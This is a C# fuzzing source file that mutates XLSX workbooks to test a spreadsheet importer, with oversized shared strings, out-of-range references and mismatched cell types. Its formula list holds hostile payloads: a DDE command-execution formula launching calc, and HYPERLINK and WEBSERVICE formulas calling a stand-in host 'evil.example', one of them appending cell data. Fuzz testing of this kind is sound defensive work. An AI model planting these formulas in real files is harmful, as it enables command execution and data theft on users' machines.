using System.Text;

namespace Analytics.Fuzz;

/// <summary>Hostile workbooks: formulas (DDE, links, errors; with and without cached values), huge shared strings, absurd cell references and merges.</summary>
internal static class XlsxMutations
{
    private const string Sheet = "xl/worksheets/sheet1.xml";
    private const string Strings = "xl/sharedStrings.xml";

    private static readonly (string Formula, string? Cached, string? Type)[] Formulas =
    [
        ("cmd|' /C calc'!A0", "0", null), ("cmd|' /C calc'!A0", null, null), ("HYPERLINK(\"http://evil.example/?\"&amp;B3,\"Bấm vào đây\")", "Bấm vào đây", "str"),
        ("1/0", "#DIV/0!", "e"), ("1/0", null, null), ("SUM(C3:C6)", "349.42", null), ("'=1+1", "=1+1", "str"),
        ("WEBSERVICE(\"http://evil.example\")", null, null), ("A1", "=cmd|' /C calc'!A0", "str"), ("NA()", "#N/A", "e"),
    ];

    /// <summary>Value cells replaced by formulas; some keep a cached value, some do not; one string cell holds a formula-like text.</summary>
    public static byte[] WithFormulas(Random r, byte[] package) => Edit(package, Sheet, (r2, s) =>
    {
        var sb = new StringBuilder(s);
        for (int i = 0, n = r2.Next(1, 8); i < n; i++)
        {
            var (f, cached, type) = r2.Pick(Formulas);
            var at = $"{(char)('C' + r2.Next(6))}{r2.Next(3, 7)}";
            var cell = $"<c r=\"{at}\"{(type is null ? "" : $" t=\"{type}\"")}><f>{f}</f>{(cached is null ? "" : $"<v>{cached}</v>")}</c>";
            var start = sb.ToString().IndexOf($"<c r=\"{at}\"", StringComparison.Ordinal);
            if (start < 0) continue;
            var end = sb.ToString().IndexOf("</c>", start, StringComparison.Ordinal) + 4;
            sb.Remove(start, end - start).Insert(start, cell);
        }
        return sb.ToString();
    }, r);

    /// <summary>Shared strings grown to ~20 MB: 200,000 items, or one string of 20 MB.</summary>
    public static byte[] HugeSharedStrings(Random r, byte[] package) => Edit(package, Strings, (r2, s) =>
    {
        var close = s.LastIndexOf("</sst>", StringComparison.Ordinal);
        if (close < 0) return s; // already damaged by an earlier mutation
        var extra = r2.Chance(0.5)
            ? string.Concat(Enumerable.Range(0, 200_000).Select(i => $"<si><t>Sở số {i} — 88,4%</t></si>"))
            : "<si><t>" + new string('ô', 20_000_000) + "</t></si>";
        return s.Insert(close, extra);
    }, r);

    /// <summary>References no sheet has: beyond the last column and row, beyond int, empty, backwards; a merge over the whole sheet.</summary>
    public static byte[] AbsurdReferences(Random r, byte[] package) => Edit(package, Sheet, (r2, s) => r2.Next(4) switch
    {
        0 => s.Replace("r=\"C3\"", $"r=\"{r2.Pick(["XFD1048576", "ZZZ99999999999", "A0", "", "3C", "AAAA1", "A-1", "A2147483648"])}\"", StringComparison.Ordinal),
        1 => s.Replace("<mergeCell ref=\"A1:I1\"", $"<mergeCell ref=\"{r2.Pick(["A1:XFD1048576", "A1:A1048576", "XFD1:A1", "A1:ZZZ9", "B2:B99999999999", "A1"])}\"", StringComparison.Ordinal),
        2 => s.Replace("<row r=\"3\"", $"<row r=\"{r2.Pick(["0", "-1", "4294967295", "99999999999", "x"])}\"", StringComparison.Ordinal),
        _ => s.Replace("<v>3</v>", $"<v>{r2.Pick(["1e308", "-0", "NaN", "Infinity", "99999999999999999999999", "0x10", "", " 1 "])}</v>", StringComparison.Ordinal),
    }, r);

    /// <summary>Strings where numbers are expected and the reverse; shared-string indexes out of range.</summary>
    public static byte[] WrongTypes(Random r, byte[] package) => Edit(package, Sheet, (r2, s) => r2.Next(3) switch
    {
        0 => s.Replace("t=\"s\"", "t=\"n\"", StringComparison.Ordinal),
        1 => s.Replace("<c r=\"D4\"", "<c t=\"s\" r=\"D4\"", StringComparison.Ordinal).Replace("<v>0</v>", "<v>999999</v>", StringComparison.Ordinal),
        _ => s.Replace("<c r=\"E5\"", "<c t=\"b\" r=\"E5\"", StringComparison.Ordinal).Replace("t=\"s\"", "t=\"inlineStr\"", StringComparison.Ordinal),
    }, r);

    private static byte[] Edit(byte[] package, string part, Func<Random, string, string> change, Random r) =>
        PackageMutations.WithPart(package, part, (r2, xml) => Encoding.UTF8.GetBytes(change(r2, Encoding.UTF8.GetString(xml))), r);
}
